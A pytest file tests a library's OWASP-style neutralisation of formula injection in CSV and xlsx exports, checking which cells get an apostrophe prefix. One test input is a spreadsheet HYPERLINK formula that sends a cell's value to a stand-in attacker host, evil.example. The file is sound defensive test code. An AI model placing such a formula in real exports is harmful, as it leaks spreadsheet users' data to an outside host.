"""OWASP's rule for spreadsheet exports, in one place: ``io.tables.spreadsheet_safe``."""

from __future__ import annotations

import io

import pytest

from tahator.io.tables import may_start_formula, spreadsheet_row, spreadsheet_safe, write_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        ),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        # Numbers are data: a spreadsheet reads them as the numbers they are.
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("0.00", "0.00"),
        # Text that starts otherwise is left alone.
        ("PK-1", "PK-1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_write_csv_makes_every_cell_safe_and_quotes_as_csv_must() -> None:
    out = io.StringIO(newline="")
    write_csv(out, ("id", "amount"), [["=1+2", "a,b", "x"], ["-12.50", "1.00", "-1-1"]])
    assert out.getvalue() == "id,amount\n'=1+2,-12.50\n\"a,b\",1.00\nx,'-1-1\n"


def test_the_plain_path_is_made_safe_too() -> None:
    out = io.StringIO(newline="")
    write_csv(out, ("id", "n"), [["@x", "y"], ["1", "2"]], plain=True)
    assert out.getvalue() == "id,n\n'@x,1\ny,2\n"


def test_the_quick_test_finds_a_formula_in_any_cell_of_a_row() -> None:
    assert not may_start_formula(["a,b,1", "c,d,2"], rows=True)
    assert may_start_formula(["a,=b,1"], rows=True)
    assert not may_start_formula(["a,=b,1"])  # as a column of single cells: starts with a
    assert may_start_formula(["x", "+y"])


def test_an_xlsx_row_keeps_numbers_and_makes_text_safe() -> None:
    from decimal import Decimal

    assert spreadsheet_row(["=1", Decimal("-12.50"), None, 3, "-4"]) == [
        "'=1",
        Decimal("-12.50"),
        None,
        3,
        "-4",
    ]
